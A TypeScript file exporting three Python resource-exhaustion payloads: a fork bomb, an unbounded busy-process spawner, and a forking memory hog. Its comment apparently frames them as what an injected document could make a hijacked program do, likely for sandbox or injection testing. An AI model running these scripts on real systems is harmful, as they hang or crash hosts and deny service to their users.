/** What a document could make a program do that it has taken over, as a script for Python. */
export const GREEDY: Readonly<Record<string, string>> = {
	'a fork bomb': `
import os
while True:
    try:
        os.fork()
    except OSError:
        pass`,
	'as many busy processes as there may be': `
import os
try:
    while os.fork():
        pass
except OSError:
    pass
while True:
    pass`,
	'a memory hog': `
import os
os.fork()
block = bytearray(900 << 20)
while True:
    for at in range(0, len(block), 4096):
        block[at] = (block[at] + 1) % 256`,
};
